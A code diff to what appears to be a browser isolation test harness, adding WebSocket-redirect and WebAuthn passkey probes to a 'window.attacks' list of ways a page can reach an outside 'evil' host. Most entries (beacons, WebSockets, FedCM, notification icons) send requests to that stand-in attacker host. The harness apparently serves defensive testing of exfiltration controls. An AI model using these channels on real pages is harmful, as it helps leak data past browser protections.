@@ -29,6 +29,12 @@ const registered = async () => {
   return registration;
 };
 
+/** Public key credentials of a relying party that is not the page's own: the browser asks its host. */
+const passkey = async (method, publicKey, more = {}) => {
+  if (!window.PublicKeyCredential) return "absent";
+  await navigator.credentials[method]({ publicKey: { challenge: new Uint8Array(32), ...publicKey }, ...more });
+};
+
 const imported = (type) => (evil) => import(`${evil}/x.${type}`, { with: { type } });
 
 Object.assign(window.attacks, {
@@ -41,6 +47,10 @@ Object.assign(window.attacks, {
   beacon: (evil) => void navigator.sendBeacon(evil, "x"),
   fetchLater: (evil) => (window.fetchLater ? void fetchLater(evil, { activateAfter: 0 }) : "absent"),
   ws: (evil) => void new WebSocket(evil.replace("http", "ws")),
+  ws_redirect: (evil) => {
+    const own = new URL(`./helper/redirect?to=${encodeURIComponent(evil)}`, location.href);
+    return void new WebSocket(own.href.replace("http", "ws"));
+  },
   wsstream: (evil) => (window.WebSocketStream ? new WebSocketStream(evil.replace("http", "ws")).opened : "absent"),
   eventsource: (evil) => void new EventSource(evil),
   webtransport: (evil) => (window.WebTransport ? new WebTransport(`https://${addressOf(evil)}/`).ready : "absent"),
@@ -72,6 +82,18 @@ Object.assign(window.attacks, {
     if (!window.IdentityCredential) return "absent";
     const provider = { configURL: `${evil}/fedcm.json`, clientId: "x", nonce: "x", params: { nonce: "x" } };
     return navigator.credentials.get({ identity: { providers: [provider] } });
+  },
+  webauthn_get: (_, name) => passkey("get", { rpId: name }),
+  webauthn_conditional: (_, name) => passkey("get", { rpId: name }, { mediation: "conditional" }),
+  webauthn_create: (_, name) =>
+    passkey("create", {
+      rp: { id: name, name: "x" },
+      user: { id: new Uint8Array(1), name: "x", displayName: "x" },
+      pubKeyCredParams: [{ type: "public-key", alg: -7 }],
+    }),
+  webauthn_signal: (_, name) => {
+    if (!window.PublicKeyCredential?.signalUnknownCredential) return "absent";
+    return PublicKeyCredential.signalUnknownCredential({ rpId: name, credentialId: "AAAA" });
   },
   notification_icon: (evil) => void new Notification("x", { icon: `${evil}/x.png` }),
   mediasession: (evil) => {
